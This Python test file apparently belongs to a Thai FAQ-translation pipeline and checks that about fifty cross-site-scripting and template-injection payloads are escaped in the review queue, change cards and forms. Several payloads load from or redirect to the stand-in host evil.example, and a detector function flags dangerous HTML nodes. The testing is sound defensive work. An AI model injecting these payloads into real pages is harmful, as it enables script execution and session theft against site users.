"""Hostile text on its way from an article through a FAQ to the queue and the card: it is shown, and never does anything."""

import lxml.html
import pytest

from kb_pipeline.domain.articles import Citation
from kb_pipeline.domain.changes import Change, ChangeKind, Relation, RelationKind, RiskTier
from kb_pipeline.domain.faqs import FaqText, Provenance, Revision, SourceFaq, entry_id
from kb_pipeline.domain.findings import Finding, MqmCategory, Severity
from kb_pipeline.steps.parse.sentences import sentences as split_sentences
from tests.factories import article

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>ก</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<math href=javascript:alert(1)>x</math>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<base href=//evil.example>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus '",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</mark><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "</code><svg/onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7 * 7 }}",
    "{% raw %}<script>{% endraw %}",
    "${alert(1)}",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<xss style='position:fixed' onclick=alert(1)>ไทย</xss>",
    "[x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "<dialog open>x</dialog>",
    "<button formaction=//evil.example>ก</button>",
    "<marquee onstart=alert(1)>",
)
DANGEROUS = {
    "iframe",
    "object",
    "embed",
    "base",
    "style",
    "svg",
    "math",
    "video",
    "audio",
    "marquee",
    "xss",
    "noscript",
    "source",
}


def hostile(store, payload):
    """An article, a source FAQ and a Thai change, all of whose texts hold the payload."""
    item = article("hostile", f"# Title\n\nSay {payload} now.\n", title=f"T {payload}")
    item = item.model_copy(update={"title": f"T {payload}"})
    lines = split_sentences(item)
    store.save_article(item, lines, ())
    cited = Citation.of(lines[-1]).model_copy(update={"text": f"cited {payload}", "heading_path": (f"H {payload}",)})
    text = FaqText(question=f"คำถาม {payload}", answer=f"คำตอบ {payload}", phrasings=(f"แบบอื่น {payload}",))
    faq = SourceFaq(
        id="hostile-faq",
        article_id="hostile",
        language="en",
        revision=1,
        text=text,
        citations=(cited,),
        provenance=Provenance(),
    )
    store.save_source_faqs([faq], {})
    made = Provenance(prompt=f"p {payload}", model=f"m {payload}", source_revision=1)
    revision = Revision(
        entry_id=entry_id("th-TH", faq.id), market="th-TH", language="th-TH", text=text, citations=(cited,), provenance=made
    )
    finding = Finding(
        rule="link",
        category=MqmCategory.DESIGN,
        severity=Severity.MAJOR,
        message=f"m {payload}",
        start=2,
        end=9,
        fix=f"f {payload}",
    )
    change = Change(
        market="th-TH", entry_id=revision.entry_id, kind=ChangeKind.ADD, revision=revision,
        source_faq_id=faq.id, source_revision=1,
        topics=(f"t {payload}",), relation=Relation(kind=RelationKind.NEW, guards=(f"g {payload}",)), findings=(finding,),
        risk=RiskTier.LOW,
    )  # fmt: skip
    store.propose(change)
    return change


def dangers(html):
    """Every node of a page that could do something which is not the page's own."""
    for node in lxml.html.document_fromstring(html).iter(lxml.html.etree.Element):
        has = {name.lower(): value for name, value in node.attrib.items()}
        places = (has[name] for name in ("src", "href", "action", "formaction") if name in has)
        if (
            node.tag in DANGEROUS
            or any(name.startswith("on") or name in {"style", "srcdoc", "http-equiv"} for name in has)
            or not all(place.startswith(("/", "#")) and not place.startswith("//") for place in places)
            or (node.tag == "script" and (node.text or "").strip())
            or (node.tag == "dialog" and "open" in has)
        ):
            yield lxml.html.tostring(node)


def shape(html):
    """The page's tags in order, the rows of facts aside: a payload with a number in it has a fact more."""
    nodes = lxml.html.document_fromstring(html).iter(lxml.html.etree.Element)
    return [node.tag for node in nodes if node.tag not in {"tr", "td"}]


@pytest.fixture
def browser(person):
    return person()


def test_the_hunt_finds_what_is_dangerous():
    harmless = (
        "{{",
        "{%",
        "${",
        "javascript:",
        "&",
        "[x]",
        "![x]",
        "＜",
        '"',
        "'",
        "<!-",
        "<![",
        "<scr\x00",
        "</option",
        "</title",
        "</textarea",
    )
    found = [payload for payload in PAYLOADS if not payload.startswith(harmless) and list(dangers(f"<html><body>{payload}"))]
    assert len(found) > 20


def test_no_payload_becomes_a_node_of_the_queue_the_card_or_the_checked_part(browser, store):
    assert len(PAYLOADS) > 40
    shapes = set()
    for payload in PAYLOADS:
        change = hostile(store, payload)
        fields = {
            "question": f"q {payload}",
            "answer": f"a {payload}",
            "phrasings": payload,
            "version": "1",
            "comment": payload,
        }
        pages = [
            browser.get("/").text,
            browser.get("/", params={"q": payload, "rule": payload, "market": payload, "risk": payload}).text,
            browser.get(f"/changes/{change.id}", params={"q": payload}).text,
            browser.submit(f"/changes/{change.id}/check", **fields).text,
            browser.submit(f"/changes/{change.id}/check", headers={"x-part": "checked"}, **fields).text,
            browser.submit(f"/changes/{change.id}/reject", **(fields | {"version": "9"})).text,
        ]
        for html in pages:
            assert list(dangers(html)) == [], payload
        shapes.add(tuple(map(tuple, map(shape, pages[2:3]))))
        store.give_up(change.entry_id, "next")
    assert len(shapes) == 1, "no payload adds a node to the card"
